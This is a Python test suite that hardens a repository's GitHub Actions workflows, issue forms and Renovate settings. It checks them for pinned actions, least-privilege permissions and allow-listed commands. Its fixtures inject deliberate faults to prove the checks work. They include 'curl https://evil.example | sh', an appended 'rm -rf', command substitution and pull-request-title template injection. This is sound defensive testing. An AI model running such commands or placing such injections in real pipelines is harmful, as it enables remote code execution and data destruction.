"""What runs on GitHub: pinned, with least rights, nothing but commands that people can run; forms that are valid."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from conftest import ROOT

GITHUB = ROOT / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").iterdir())
FORMS = sorted(path for path in (GITHUB / "ISSUE_TEMPLATE").iterdir() if path.name != "config.yml")
SCHEMAS = [
    *((path, "vendor.github-workflows") for path in WORKFLOWS),
    *((path, "custom.github-workflows-require-timeout") for path in WORKFLOWS),
    *((path, "vendor.github-issue-forms") for path in FORMS),
    (GITHUB / "ISSUE_TEMPLATE/config.yml", "vendor.github-issue-config"),
    (GITHUB / "renovate.json", "vendor.renovate"),
]
PINNED = re.compile(r"[\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
COMMAND = re.compile(r"(?:scripts/[a-z-]+|bash \.ci/run|gh release create)(?: [^;&|$`]*(?:\"\$[A-Z_]+\")?)*")
EVENTS = {"pull_request", "merge_group", "push"}


def tool(name: str, *arguments: object) -> subprocess.CompletedProcess[str]:
    command = [str(Path(sys.executable).with_name(name)), *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, check=False)


def zizmor(folder: Path) -> subprocess.CompletedProcess[str]:
    """Audit a folder with every rule that needs no network: offline, no pin is compared with its repository."""
    return tool("zizmor", "--pedantic", "--offline", "--no-progress", folder)


def faults(text: str) -> Iterator[str]:
    """Yield what our own rules have against a workflow."""
    workflow = yaml.safe_load(text)
    if set(workflow[True]) - EVENTS:  # YAML 1.1 reads the key `on` as true
        yield "event"
    if workflow["permissions"] != {}:
        yield "permissions"
    for line in re.findall(r"uses: (.*)", text):
        if not PINNED.fullmatch(line):
            yield f"pin {line}"
    for name, job in workflow["jobs"].items():
        if job["runs-on"] != "ubuntu-24.04" or "timeout-minutes" not in job or not job["permissions"]:
            yield f"job {name}"
        for step in job["steps"]:
            yield from _faults_of_step(step)


def _faults_of_step(step: dict) -> Iterator[str]:
    command = step.get("run", "scripts/check")
    if "${{" in command or not COMMAND.fullmatch(command.removesuffix(' >> "$GITHUB_STEP_SUMMARY"')):
        yield f"run {command}"
    if "actions/checkout" in step.get("uses", "") and step["with"]["persist-credentials"] is not False:
        yield "credentials"


def test_zizmor_finds_nothing_in_pedantic_mode():
    done = zizmor(GITHUB)
    assert done.returncode == 0, done.stdout


@pytest.mark.parametrize(("path", "schema"), SCHEMAS, ids=lambda value: getattr(value, "name", value))
def test_every_file_is_what_github_and_renovate_read(path: Path, schema: str):
    done = tool("check-jsonschema", "--builtin-schema", schema, path)
    assert done.returncode == 0, done.stdout


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_every_workflow_keeps_our_rules(path: Path):
    assert list(faults(path.read_text(encoding="utf-8"))) == []


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_every_command_of_a_workflow_is_one_that_people_can_run(path: Path):
    commands = re.findall(r"run: (?:bash )?((?:scripts/|\.ci/)\S+)", path.read_text(encoding="utf-8"))
    assert commands
    assert all((ROOT / command).is_file() for command in commands)


def test_a_pull_request_can_read_and_nothing_else():
    workflow = yaml.safe_load((GITHUB / "workflows/pull-request.yml").read_text(encoding="utf-8"))
    assert {name: job["permissions"] for name, job in workflow["jobs"].items()} == dict.fromkeys(
        ("check", "test", "build"), {"contents": "read"}
    )
    assert "secrets." not in (GITHUB / "workflows/pull-request.yml").read_text(encoding="utf-8")


def test_each_right_to_write_is_in_a_job_that_runs_nothing_of_the_repository():
    jobs = yaml.safe_load((GITHUB / "workflows/release.yml").read_text(encoding="utf-8"))["jobs"]
    for name, job in jobs.items():
        runs_ours = any("checkout@" in step.get("uses", "") for step in job["steps"])
        assert ("write" in job["permissions"].values()) != runs_ours, name


BROKEN = [
    ("pull-request.yml", "  pull_request:\n", "  pull_request_target:\n", "event"),
    ("pull-request.yml", "permissions: {}", "permissions: write-all", "permissions"),
    ("pull-request.yml", "@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7", "pin actions/checkout@v7"),
    ("pull-request.yml", "persist-credentials: false", "persist-credentials: true", "credentials"),
    ("pull-request.yml", '"$BASE"', "${{ github.event.pull_request.title }}", "run scripts/summary ${{"),
    ("pull-request.yml", "run: scripts/build", "run: curl https://evil.example | sh", "run curl"),
    ("pull-request.yml", "run: scripts/build", "run: scripts/build && rm -rf x", "run scripts/build &&"),
    ("pull-request.yml", "run: scripts/build", "run: scripts/build $(date)", "run scripts/build $("),
    ("pull-request.yml", "timeout-minutes: 10\n", "env: {A: b}\n", "job check"),
    ("release.yml", "ubuntu-24.04", "ubuntu-latest", "job build"),
]
AUDITED = [
    ("pull-request.yml", "  pull_request:\n", "  pull_request_target:\n", "dangerous-triggers"),
    ("pull-request.yml", "permissions: {}", "permissions: write-all", "excessive-permissions"),
    ("pull-request.yml", "@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7", "unpinned-uses"),
    ("pull-request.yml", "persist-credentials: false", "clean: true", "artipacked"),
    ("pull-request.yml", '"$BASE"', "${{ github.event.pull_request.title }}", "template-injection"),
    ("release.yml", "contents: write # to make the release of the tag", "contents: write", "undocumented-permissions"),
]
INVALID = [
    ("workflows/release.yml", "runs-on:", "run-on:", "vendor.github-workflows"),
    ("workflows/release.yml", "timeout-minutes: 10\n", "env: {A: b}\n", "custom.github-workflows-require-timeout"),
    ("ISSUE_TEMPLATE/wrong-card.yml", "type: textarea", "type: text", "vendor.github-issue-forms"),
    ("ISSUE_TEMPLATE/config.yml", "true", "perhaps", "vendor.github-issue-config"),
    ("renovate.json", '"7 days"', "7", "vendor.renovate"),
]


def broken(tmp_path: Path, name: str, old: str, new: str) -> Path:
    """Return a copy of a file of .github/ with a fault in it."""
    text = (GITHUB / name).read_text(encoding="utf-8")
    assert old in text
    copy = tmp_path / ".github" / name
    copy.parent.mkdir(parents=True)
    copy.write_text(text.replace(old, new, 1), encoding="utf-8")
    return copy


@pytest.mark.parametrize(("name", "old", "new", "fault"), BROKEN)
def test_our_rules_find_the_fault_of_a_broken_twin(tmp_path, name, old, new, fault):
    found = list(faults(broken(tmp_path, f"workflows/{name}", old, new).read_text(encoding="utf-8")))
    assert [one[: len(fault)] for one in found] == [fault]


@pytest.mark.parametrize(("name", "old", "new", "audit"), AUDITED)
def test_zizmor_finds_the_fault_of_a_broken_twin(tmp_path, name, old, new, audit):
    broken(tmp_path, f"workflows/{name}", old, new)
    done = zizmor(tmp_path / ".github")
    assert done.returncode != 0 and f"[{audit}]" in done.stdout


@pytest.mark.parametrize(("name", "old", "new", "schema"), INVALID)
def test_the_schemas_find_the_fault_of_a_broken_twin(tmp_path, name, old, new, schema):
    assert tool("check-jsonschema", "--builtin-schema", schema, broken(tmp_path, name, old, new)).returncode == 1


def test_an_unbroken_copy_has_no_fault(tmp_path):
    shutil.copytree(GITHUB, tmp_path / ".github")
    assert zizmor(tmp_path / ".github").returncode == 0


def test_every_form_asks_for_something_and_says_what_it_is_for():
    for path in FORMS:
        form = yaml.safe_load(path.read_text(encoding="utf-8"))
        fields = [field for field in form["body"] if field["type"] != "markdown"]
        assert form["name"] and form["description"] and form["title"]
        assert any(field.get("validations", {}).get("required") for field in fields), path.name
        assert all(field["id"] and field["attributes"]["label"] for field in fields), path.name


def test_no_file_of_github_names_owner_or_repository():
    name = yaml.safe_load(re.search(r"^repo_name: .*$", (ROOT / "mkdocs.yml").read_text(), re.MULTILINE)[0])[
        "repo_name"
    ]
    for path in (*GITHUB.rglob("*.*"), ROOT / "SECURITY.md"):
        if path.is_file():
            assert name not in path.read_text(encoding="utf-8"), path


def test_the_lock_is_old_enough_wherever_it_is_made():
    """Renovate makes the whole lock anew, which it does not hold back itself: uv does."""
    renovate = yaml.safe_load((GITHUB / "renovate.json").read_text(encoding="utf-8"))
    assert renovate["minimumReleaseAge"] == "7 days"
    assert '[tool.uv]\nexclude-newer = "7 days"' in (ROOT / "pyproject.toml").read_text(encoding="utf-8")
